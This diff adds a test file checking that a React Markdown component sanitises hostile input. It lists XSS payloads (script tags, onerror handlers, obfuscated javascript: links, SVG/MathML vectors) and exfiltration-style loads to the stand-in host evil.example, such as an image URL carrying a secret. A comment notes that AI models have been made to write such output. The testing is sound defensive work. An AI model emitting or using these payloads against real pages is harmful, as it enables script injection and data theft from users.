@@ -1,0 +1,64 @@
+import { render, screen } from '@testing-library/react'
+import { expect, test } from 'vitest'
+
+import { Markdown } from './Markdown'
+
+/** What models have been made to write, and what else gets through weak filters. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src="https://evil.example/x.png" onerror="alert(1)">',
+  '![read](https://evil.example/read.png?secret)',
+  '![read][r]\n\n[r]: https://evil.example/read.png',
+  '[click](javascript:alert(1))',
+  '[click](JaVaScRiPt:alert(1))',
+  '[click](java\u0000script:alert(1))',
+  '[click](&#106;avascript:alert(1))',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[click](vbscript:msgbox(1))',
+  '<javascript:alert(1)>',
+  '[a]: javascript:alert(1)\n\n[a]',
+  '<a href="javascript:alert(1)">x</a>',
+  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  '<video src="https://evil.example/x" autoplay onloadstart="alert(1)"></video>',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '```html\n<img src="https://evil.example/x" onerror="alert(1)">\n```',
+  '<details open ontoggle="alert(1)">x</details>',
+  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  'https://evil.example/unfurled',
+]
+/** Elements that load something by themselves, or run. */
+const ACTIVE =
+  'script, img, picture, source, video, audio, iframe, object, embed, link, style, svg, math, form, base, meta'
+
+// asvs: 4
+test.each(HOSTILE)('%s runs nothing and loads nothing', async (text) => {
+  const { container } = render(<Markdown text={`begin\n\n${text}\n\nend`} />)
+  // The plain text stands until the reader has come; its paragraphs tell that it has.
+  await screen.findByText('end')
+  expect(container.querySelectorAll(ACTIVE)).toHaveLength(0)
+  for (const element of container.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      expect(name, text).not.toMatch(/^on|^style$|^src/)
+      if (name === 'href') expect(value, text).toMatch(/^(https?:|mailto:|#|$)/)
+    }
+  }
+})
+
+test('a link goes out without saying where from', async () => {
+  render(<Markdown text="[there](https://example.org/x)" />)
+  const link = await screen.findByRole('link', { name: 'there' })
+  expect(link).toHaveAttribute('rel', 'noreferrer noopener nofollow')
+  expect(link).toHaveAttribute('target', '_blank')
+})
